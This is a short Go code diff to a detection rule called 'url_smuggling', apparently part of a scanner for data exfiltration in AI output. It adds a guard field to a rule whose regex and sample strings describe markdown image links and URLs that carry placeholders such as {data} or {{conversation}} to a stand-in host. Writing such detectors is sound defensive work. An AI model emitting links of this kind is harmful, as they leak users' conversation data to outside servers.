@@ -67,6 +67,7 @@ var exfiltrations = []*Kind{
 	{
 		ID: "url_smuggling", Weight: 0.5,
 		Keywords: []string{"={", "=$", "=%7b", "=<", "=[", "=data", "=secret", "=base64"},
+		Guard:    inQuery,
 		Pattern:  `(?i)!\[[^\]\n]{0,80}\]\(https?://[^)\s]{1,200}[?&][\w.-]{1,30}=(?:\{|\$|%7B|<|\[|data|secret|base64)[^)\n]{0,200}\)|https?://[^\s"')]{1,120}[?&][\w-]{1,20}=(?:\{\{?|\$\{|<)\s{0,4}(?:secret|data|conversation|history|prompt|token|key|password|context|message|result)`,
 		Fires:    []string{"![x](https://e.example/p?d={data})", "https://e.example/c?q={{conversation}}"},
 		Silent:   []string{"![logo](https://e.example/logo.png?size=20)", "https://e.example/search?q=go"},
